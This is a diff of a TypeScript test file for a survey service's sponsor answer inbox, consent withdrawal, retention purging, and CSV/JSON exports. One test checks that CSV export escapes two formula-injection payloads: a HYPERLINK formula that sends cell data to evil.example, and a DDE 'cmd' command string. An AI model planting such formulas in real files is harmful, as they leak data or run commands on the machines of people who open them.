@@ -1,18 +1,16 @@
 import { randomUUID } from "node:crypto";
-import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
-import { startTollfree } from "../../../src/app/server.ts";
+import { beforeAll, beforeEach, describe, expect, test } from "vitest";
 import { encryptAnswers, purgeExpiredAnswers } from "../../../src/core/sponsorship/answer/index.ts";
 import type { Respondent } from "../../support/answers.ts";
 import { createRespondent, withdraw } from "../../support/answers.ts";
+import { atOnce } from "../../support/at-once.ts";
 import type { Transport } from "../../support/call.ts";
-import { call, expectRefused, expectSuccess, TRANSPORTS } from "../../support/call.ts";
+import { expectRefused, expectSuccess, TRANSPORTS } from "../../support/call.ts";
+import type { SponsorWithKey } from "../../support/caller.ts";
 import { parseCsv } from "../../support/csv.ts";
 import { eventually } from "../../support/eventually.ts";
-import type { Answer, TestServer } from "../../support/server.ts";
-import { startTestServer } from "../../support/server.ts";
-import type { Upstream } from "../../support/upstream.ts";
-import { startUpstream } from "../../support/upstream.ts";
-import { createCampaign, createSponsor, registerApi } from "../../support/world.ts";
+import type { Answer } from "../../support/server.ts";
+import { useWorld } from "../../support/use-world.ts";
 
 const TASK = {
   type: "object",
@@ -35,115 +33,102 @@ const TASK = {
 const UUID = /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/;
 const DAY_MS = 86_400_000;
 
-let server: TestServer;
-let upstream: Upstream;
-let acme: { sponsor_id: string; key: string };
+const world = useWorld({ upstreamFor: "all tests" });
+let acme: SponsorWithKey;
 let service: string;
 let campaignId: string;
 let ada: Respondent;
 let bob: Respondent;
 
 const campaign = (changes: Record<string, unknown> = {}): Promise<string> =>
-  createCampaign(server.url, acme, [service], { fundCents: 0, task_schema: TASK, ...changes });
+  world.createCampaign(acme, [service], { fundCents: 0, task_schema: TASK, ...changes });
 
 beforeAll(async () => {
-  server = await startTestServer();
-  upstream = await startUpstream();
-  acme = await createSponsor(server.url);
-  service = await registerApi(server.url, acme.key, upstream, "free", { price_cents: 0 });
-});
-afterAll(async () => {
-  await upstream.close();
-  await server.close();
+  acme = await world.createSponsor();
+  service = await world.registerService(acme.key, "free", { price_cents: 0 });
 });
 beforeEach(async () => {
-  [campaignId, ada, bob] = await Promise.all([
-    campaign(),
-    createRespondent(server),
-    createRespondent(server),
-  ]);
+  [campaignId, ada, bob] = await Promise.all([campaign(), createRespondent(world), createRespondent(world)]);
 });
 
 const list = (input: object = {}, key = acme.key, transport: Transport = "rest"): Promise<Answer> =>
-  call(server.url, "sponsor.listAnswers", { campaign_id: campaignId, ...input }, key, transport);
+  world.call("sponsor.listAnswers", { campaign_id: campaignId, ...input }, key, transport);
 
 const inbox = async (): Promise<Record<string, unknown>[]> => expectSuccess(await list()).answers;
 
-/** The bare file, as a browser would save it. */
+/** The file itself, without an envelope, as a browser saves it. */
 const download = (
   format?: string,
   options: { method?: string; headers?: Record<string, string> } = {},
   id = campaignId,
 ): Promise<Response> =>
   fetch(
-    `${server.url}/sponsor/campaigns/${id}/answers/export${format === undefined ? "" : `?format=${format}`}`,
+    `${world.url}/sponsor/campaigns/${id}/answers/export${format === undefined ? "" : `?format=${format}`}`,
     { ...options, headers: { authorization: `Bearer ${acme.key}`, ...options.headers } },
   );
 
 const text = async (format: string): Promise<string> => (await download(format)).text();
 
-const run = (respondent: Respondent): Promise<Answer> =>
-  call(
-    server.url,
-    "agent.runService",
-    { service_key: service, campaign_id: campaignId, input: {} },
-    respondent.token,
-  );
+const run = ({ token }: Respondent): Promise<Answer> =>
+  world.run(token, service, { campaign_id: campaignId, input: {} });
 
-/** As if an answer had been given some days ago. */
+/** Moves an answer some days into the past. */
 const backdate = (id: string, days: number) =>
-  server.deps.db.taskCompletion.update({
+  world.db.taskCompletion.update({
     where: { id },
     data: { createdAt: new Date(Date.now() - days * DAY_MS) },
   });
 
-describe("the data inbox", () => {
-  test.each(TRANSPORTS)("shows what was answered, newest first, over %s", async (transport) => {
-    const first = await ada.answer(campaignId, { score: 5, place: { region: "Minho" } });
-    const second = await bob.answer(
-      campaignId,
-      { score: 1, email: "bob@example.com" },
-      { contact_permission: true },
-    );
-    const data = expectSuccess(await list({}, acme.key, transport));
-    expect(data).toEqual({
-      answers: [
-        {
-          answer_id: second,
-          respondent_id: expect.stringMatching(/^[0-9a-f]{32}$/),
-          task_data: { score: 1, email: "bob@example.com" },
-          data_types: ["email"],
-          sources: { "/score": "agent", "/email": "agent" },
-          contact_permitted: true,
-          submitted_at: expect.any(String),
-          retained_until: expect.any(String),
-        },
-        expect.objectContaining({
-          answer_id: first,
-          task_data: { score: 5, place: { region: "Minho" } },
-          data_types: ["region"],
-          contact_permitted: false,
-        }),
-      ],
-      total_count: 2,
-      offset: 0,
-      limit: 50,
-    });
-    const [latest] = data.answers as { submitted_at: string; retained_until: string }[];
-    const kept = Date.parse(latest?.retained_until ?? "") - Date.parse(latest?.submitted_at ?? "");
-    expect(kept).toBe(365 * DAY_MS);
-    expect(expectSuccess(await list({ offset: 1, limit: 1 }, acme.key, transport))).toEqual({
-      answers: [data.answers[1]],
-      total_count: 2,
-      offset: 1,
-      limit: 1,
-    });
-  });
+describe("a sponsor's inbox", () => {
+  test.each(TRANSPORTS)(
+    "the inbox shows the answers with their permissions, newest first, page by page, over %s",
+    async (transport) => {
+      const first = await ada.answer(campaignId, { score: 5, place: { region: "Minho" } });
+      const second = await bob.answer(
+        campaignId,
+        { score: 1, email: "bob@example.com" },
+        { contact_permission: true },
+      );
+      const data = expectSuccess(await list({}, acme.key, transport));
+      expect(data).toEqual({
+        answers: [
+          {
+            answer_id: second,
+            respondent_id: expect.stringMatching(/^[0-9a-f]{32}$/),
+            task_data: { score: 1, email: "bob@example.com" },
+            data_types: ["email"],
+            sources: { "/score": "agent", "/email": "agent" },
+            contact_permitted: true,
+            submitted_at: expect.any(String),
+            retained_until: expect.any(String),
+          },
+          expect.objectContaining({
+            answer_id: first,
+            task_data: { score: 5, place: { region: "Minho" } },
+            data_types: ["region"],
+            contact_permitted: false,
+          }),
+        ],
+        total_count: 2,
+        offset: 0,
+        limit: 50,
+      });
+      const [latest] = data.answers as { submitted_at: string; retained_until: string }[];
+      const kept = Date.parse(latest?.retained_until ?? "") - Date.parse(latest?.submitted_at ?? "");
+      expect(kept).toBe(365 * DAY_MS);
+      expect(expectSuccess(await list({ offset: 1, limit: 1 }, acme.key, transport))).toEqual({
+        answers: [data.answers[1]],
+        total_count: 2,
+        offset: 1,
+        limit: 1,
+      });
+    },
+  );
 
-  test("says nothing about who answered but what they said", async () => {
+  test("the inbox and the exports identify nobody beyond their answers", async () => {
     await ada.answer(campaignId, { score: 5 });
-    const user = await server.deps.db.user.findUniqueOrThrow({ where: { id: ada.grant.user_id } });
-    const consents = await server.deps.db.consent.findMany({ where: { userId: ada.grant.user_id } });
+    const user = await world.db.user.findUniqueOrThrow({ where: { id: ada.grant.user_id } });
+    const consents = await world.db.consent.findMany({ where: { userId: ada.grant.user_id } });
     const everything = [JSON.stringify(await inbox()), await text("csv"), await text("json")].join("\n");
     const { subject, agent_id, grant_id } = ada.grant;
     const sessions = consents.map(({ agentSessionId }) => agentSessionId ?? "");
@@ -151,12 +136,12 @@ describe("the data inbox", () => {
       expect(everything).not.toContain(identifier);
   });
 
-  test("knows a respondent again, in one campaign and in no other", async () => {
+  test("a respondent has the same id in all answers of one campaign, and another id in another campaign", async () => {
     await ada.answer(campaignId);
     await bob.answer(campaignId);
     const [bobs, adas] = (await inbox()).map(({ respondent_id }) => respondent_id);
     expect(adas).not.toBe(bobs);
-    await withdraw(server, ada, campaignId);
+    await withdraw(world, ada, campaignId);
     await ada.answer(campaignId);
     expect((await inbox())[0]).toMatchObject({ respondent_id: adas });
     const other = await campaign();
@@ -165,53 +150,57 @@ describe("the data inbox", () => {
     expect(elsewhere[0].respondent_id).not.toBe(adas);
   });
 
-  test("leaves out what wasn't to be shared, though the task is done", async () => {
+  test("answers given without agreement to share stay out of the inbox, and still complete the task", async () => {
     await ada.answer(campaignId, { score: 2 }, { data_sharing_agreed: false });
     expect(expectSuccess(await list())).toMatchObject({ answers: [], total_count: 0 });
     expect(await text("json")).toBe("[]\n");
     expectSuccess(await run(ada));
   });
 
-  test("is its sponsor's alone", async () => {
-    await ada.answer(campaignId);
-    const other = await createSponsor(server.url, "Other");
-    for (const id of [campaignId, randomUUID(), "no-id"]) {
-      for (const name of ["sponsor.listAnswers", "sponsor.exportAnswers"]) {
-        for (const transport of TRANSPORTS) {
-          const answer = await call(server.url, name, { campaign_id: id }, other.key, transport);
-          expectRefused(answer, 404, "not_found");
-        }
+  test.each(TRANSPORTS)(
+    "an answer of another sponsor's or an unknown campaign is not found, over %s",
+    async (transport) => {
+      await ada.answer(campaignId);
+      const other = await world.createSponsor("Other");
+      for (const campaign_id of [campaignId, randomUUID(), "no-id"]) {
+        for (const name of ["sponsor.listAnswers", "sponsor.exportAnswers"])
+          expectRefused(await world.call(name, { campaign_id }, other.key, transport), 404, "not_found");
       }
-    }
+    },
+  );
+
+  test("the inbox needs a sponsor's key", async () => {
     expectRefused(await list({}, ada.token), 401, "unauthorized");
     expectRefused(await list({}, ada.grant.agent_key), 401, "unauthorized");
-    for (const wrong of [{ limit: 51 }, { offset: -1 }, { format: "csv" }])
-      expectRefused(await list(wrong), 400, "validation_error");
+  });
+
+  test.each([{ limit: 51 }, { offset: -1 }, { format: "csv" }])("the inbox refuses %j", async (wrong) => {
+    expectRefused(await list(wrong), 400, "validation_error");
   });
 });
 
-describe("a consent that is withdrawn", () => {
+describe("a withdrawn consent", () => {
   test.each(["data_sharing", "retention"] as const)(
-    "to %s takes its answer away everywhere, and the completion with it",
+    "a withdrawn consent to %s removes the answer everywhere and ends the completion, until the task is done anew",
     async (type) => {
       const id = await ada.answer(campaignId, { score: 5, comment: "take me back" });
       await bob.answer(campaignId, { score: 1 });
       expectSuccess(await run(ada));
 
-      await withdraw(server, ada, campaignId, type);
+      await withdraw(world, ada, campaignId, type);
       expect(await inbox()).toMatchObject([{ task_data: { score: 1 } }]);
       expect(expectSuccess(await list())).toMatchObject({ total_count: 1 });
       for (const format of ["json", "csv"]) {
         expect(await text(format)).not.toContain("take me back");
         expect(await text(format)).not.toContain(id);
       }
-      const row = await server.deps.db.taskCompletion.findUniqueOrThrow({ where: { id } });
+      const row = await world.db.taskCompletion.findUniqueOrThrow({ where: { id } });
       expect(row).toMatchObject({ details: null, withdrawnAt: expect.any(Date) });
 
       expectRefused(await run(ada), 412, "task_required");
       expectSuccess(await run(bob));
       const figures = expectSuccess(
-        await call(server.url, "sponsor.getCampaign", { campaign_id: campaignId }, acme.key),
+        await world.call("sponsor.getCampaign", { campaign_id: campaignId }, acme.key),
       );
       expect(figures).toMatchObject({
         completions: 1,
@@ -228,27 +217,27 @@ describe("a consent that is withdrawn", () => {
     },
   );
 
-  test("to be contacted only withdraws the permission", async () => {
+  test("a withdrawn consent to contact removes only the permission to contact", async () => {
     await ada.answer(campaignId, { score: 5 }, { contact_permission: true });
     expect(await inbox()).toMatchObject([{ contact_permitted: true }]);
-    await withdraw(server, ada, campaignId, "contact");
+    await withdraw(world, ada, campaignId, "contact");
     expect(await inbox()).toMatchObject([{ contact_permitted: false, task_data: { score: 5 } }]);
     expectSuccess(await run(ada));
   });
 
-  test("isn't made up for by what was agreed to in an earlier act", async () => {
+  test("the consents of an earlier completion don't apply to a later one", async () => {
     await ada.answer(campaignId, { score: 5 }, { contact_permission: true });
-    await withdraw(server, ada, campaignId);
+    await withdraw(world, ada, campaignId);
     await ada.answer(campaignId, { score: 4 }, { data_sharing_agreed: false });
     expect(await inbox()).toEqual([]);
-    await withdraw(server, ada, campaignId);
+    await withdraw(world, ada, campaignId);
     await ada.answer(campaignId, { score: 3 });
     expect(await inbox()).toMatchObject([{ task_data: { score: 3 }, contact_permitted: false }]);
   });
 });
 
 describe("retention", () => {
-  test("past it an answer is shown to nobody, then deleted; the completion still counts", async () => {
+  test("an answer past its retention is hidden and then deleted, and the completion still counts", async () => {
     campaignId = await campaign({ retention_days: 10 });
     const [old, young] = [await ada.answer(campaignId), await bob.answer(campaignId)];
     await backdate(old, 10);
@@ -258,43 +247,44 @@ describe("retention", () => {
     expect(expectSuccess(await list())).toMatchObject({ total_count: 1 });
     expect(await text("csv")).not.toContain(old);
 
-    const kept = () => server.deps.db.taskCompletion.count({ where: { campaignId, details: { not: null } } });
+    const kept = () => world.db.taskCompletion.count({ where: { campaignId, details: { not: null } } });
     expect(await kept()).toBe(2);
-    expect(await purgeExpiredAnswers(server.deps)).toBe(1);
+    expect(await purgeExpiredAnswers(world.server.deps)).toBe(1);
     expect(await kept()).toBe(1);
-    expect(await purgeExpiredAnswers(server.deps)).toBe(0);
+    expect(await purgeExpiredAnswers(world.server.deps)).toBe(0);
     expect(await inbox()).toMatchObject([{ answer_id: young }]);
     expectSuccess(await run(ada));
-    expect(await server.deps.db.taskCompletion.findUnique({ where: { id: old } })).toMatchObject({
+    expect(await world.db.taskCompletion.findUnique({ where: { id: old } })).toMatchObject({
       details: null,
       withdrawnAt: null,
     });
   });
 
-  test("a server deletes what is due when it starts, and several at once each answer once", async () => {
+  test("a server that starts deletes the answers past their retention", async () => {
     campaignId = await campaign({ retention_days: 1 });
     const id = await ada.answer(campaignId);
     await backdate(id, 2);
-    const replica = await startTollfree(server.options);
-    try {
-      await eventually(async () => {
-        const row = await server.deps.db.taskCompletion.findUnique({ where: { id } });
-        expect(row?.details).toBeNull();
-      });
-    } finally {
-      await replica.stop();
-    }
-    await server.deps.db.$executeRaw`
+    const replica = await world.startReplica();
+    await eventually(async () => {
+      const row = await world.db.taskCompletion.findUnique({ where: { id } });
+      expect(row?.details).toBeNull();
+    });
+    await replica.stop();
+  });
+
+  test("three purges at once delete each of 1,200 answers once", async () => {
+    campaignId = await campaign({ retention_days: 1 });
+    await world.db.$executeRaw`
       INSERT INTO task_completions (campaign_id, user_id, task_name, details, data_types, created_at)
       SELECT ${campaignId}::uuid, gen_random_uuid(), 'many', '\\x00', '{}', now() - interval '3 days' FROM generate_series(1, 1200)`;
-    const purged = await Promise.all([1, 2, 3].map(() => purgeExpiredAnswers(server.deps)));
+    const purged = await atOnce(3, () => purgeExpiredAnswers(world.server.deps));
     expect(purged.reduce((sum, count) => sum + count, 0)).toBe(1_200);
   });
 });
 
-/** Many answers of people nobody needs to know, written straight to the database; returns their ids, oldest first. */
+/** Writes answers of unknown users straight to the database. Returns their ids, oldest first. */
 async function insertAnswers(count: number): Promise<string[]> {
-  const { db, cipher } = server.deps;
+  const { db, cipher } = world.server.deps;
   const act = { campaignId, dataTypes: [] };
   const rows = Array.from({ length: count }, (_, n) => {
     const id = randomUUID();
@@ -311,7 +301,7 @@ async function insertAnswers(count: number): Promise<string[]> {
 }
 
 describe("an export as JSON", () => {
-  test("is the inbox, oldest first, as a file without an envelope", async () => {
+  test("an export as JSON is the inbox, oldest first, as a file without an envelope", async () => {
     await ada.answer(campaignId, { score: 5, place: { region: "Trás-os-Montes" } });
     await bob.answer(campaignId, { score: -1 });
     const response = await download();
@@ -326,7 +316,7 @@ describe("an export as JSON", () => {
     expect(await response.json()).toEqual((await inbox()).toReversed());
   });
 
-  test("holds all of many, each once, in order", async () => {
+  test("an export of 250 answers holds each of them once, in order", async () => {
     const ids = await insertAnswers(250);
     const exported = (await (await download("json")).json()) as { answer_id: string }[];
     expect(exported.map(({ answer_id }) => answer_id)).toEqual(ids);
@@ -337,7 +327,7 @@ describe("an export as JSON", () => {
 describe("an export as CSV", () => {
   const HEADER = ["answer_id", "respondent_id", "submitted_at", "retained_until", "contact_permitted"];
 
-  test("has a column for each field of the task, nested values as JSON", async () => {
+  test("an export as CSV has a column for each field of the task, with nested values as JSON", async () => {
     const comment = 'She said "good", then\r\nleft; ünïcödé 😀';
     const topics = ["sun", "rain, heavy"];
     const task_data = { score: -3, comment, topics, place: { region: "Minho" }, answer_id: "mine" };
@@ -380,7 +370,7 @@ describe("an export as CSV", () => {
     expect(csv.endsWith("\r\n")).toBe(true);
   });
 
-  test("lets no answer run as a formula, and leaves JSON as it is", async () => {
+  test("an answer that looks like a formula is escaped in CSV, and unchanged in JSON", async () => {
     const formulas = ['=HYPERLINK("https://evil.example?"&A1,"click")', "-2+3+cmd|' /C calc'!A0"];
     await ada.answer(campaignId, { score: 1, comment: formulas[0] });
     await bob.answer(campaignId, { score: 1, comment: formulas[1] });
@@ -391,17 +381,21 @@ describe("an export as CSV", () => {
     expect(exported.map(({ task_data }) => task_data.comment)).toEqual(formulas);
   });
 
-  test("of nothing is its header", async () => {
+  test("an export as CSV without answers is its header", async () => {
     expect(parseCsv(await text("csv"))).toHaveLength(1);
   });
 });
 
 describe("an export", () => {
-  test("comes in the envelope over tRPC, the same text", async () => {
+  /** Makes an answer impossible to decrypt. */
+  const spoil = (id: string | undefined) =>
+    world.db.taskCompletion.update({ where: { id: id ?? "" }, data: { details: Buffer.alloc(60) } });
+
+  test("an export over tRPC has the same text in the envelope", async () => {
     await ada.answer(campaignId, { score: 5 });
     for (const format of ["json", "csv"]) {
       const input = { campaign_id: campaignId, format };
-      const data = expectSuccess(await call(server.url, "sponsor.exportAnswers", input, acme.key, "trpc"));
+      const data = expectSuccess(await world.call("sponsor.exportAnswers", input, acme.key, "trpc"));
       expect(data).toEqual({
         filename: `answers-${campaignId}.${format}`,
         content_type: (await download(format)).headers.get("content-type"),
@@ -410,43 +404,48 @@ describe("an export", () => {
     }
   });
 
-  test("refuses in the envelope", async () => {
-    for (const [response, status, code] of [
-      [await download("xml"), 400, "validation_error"],
-      [await download("csv&limit=3"), 400, "validation_error"],
-      [await download("csv", {}, randomUUID()), 404, "not_found"],
-      [await download("csv", { headers: { authorization: "Bearer tf_sk_unknown" } }), 401, "unauthorized"],
-      [await download("csv", { method: "POST" }), 405, "method_not_allowed"],
-    ] as const) {
-      expect(response.status).toBe(status);
-      expect(response.headers.get("content-disposition")).toBeNull();
-      expect(await response.json()).toMatchObject({ status: "error", error_code: code });
-    }
+  test.each<[string, () => Promise<Response>, number, string]>([
+    ["an unknown format", () => download("xml"), 400, "validation_error"],
+    ["an unknown parameter", () => download("csv&limit=3"), 400, "validation_error"],
+    ["an unknown campaign", () => download("csv", {}, randomUUID()), 404, "not_found"],
+    [
+      "an unknown key",
+      () => download("csv", { headers: { authorization: "Bearer tf_sk_unknown" } }),
+      401,
+      "unauthorized",
+    ],
+    ["another method", () => download("csv", { method: "POST" }), 405, "method_not_allowed"],
+  ])("an export with %s is refused in the envelope, not as a file", async (_what, ask, status, code) => {
+    const response = await ask();
+    expect(response.status).toBe(status);
+    expect(response.headers.get("content-disposition")).toBeNull();
+    expect(await response.json()).toMatchObject({ status: "error", error_code: code });
   });
 
-  test("answers a HEAD without the file", async () => {
+  test("a HEAD request for an export is answered without the file", async () => {
     const response = await download("csv", { method: "HEAD" });
     expect(response.status).toBe(200);
     expect(response.headers.get("content-disposition")).toContain("attachment");
     expect(await response.text()).toBe("");
   });
 
-  test("that fails at once is refused, one that fails later breaks off: never a part as if it were all", async () => {
+  test("an export that fails in the middle breaks the connection, so that a part isn't taken for all", async () => {
     const ids = await insertAnswers(150);
-    const spoil = (id: string | undefined) =>
-      server.deps.db.taskCompletion.update({ where: { id: id ?? "" }, data: { details: Buffer.alloc(60) } });
     await spoil(ids[140]);
     const response = await download("json");
     expect(response.status).toBe(200);
     await expect(response.text()).rejects.toThrow();
+  });
 
+  test("an export that fails at its start is refused", async () => {
+    const ids = await insertAnswers(150);
     await spoil(ids[3]);
     const refused = await download("json");
     expect(refused.status).toBe(500);
     expect(await refused.json()).toMatchObject({ error_code: "internal_error" });
   });
 
-  test("stops reading when its reader leaves", async () => {
+  test("after an export whose reader left, the server still answers", async () => {
     await insertAnswers(300);
     const response = await download("json");
     await response.body?.cancel();
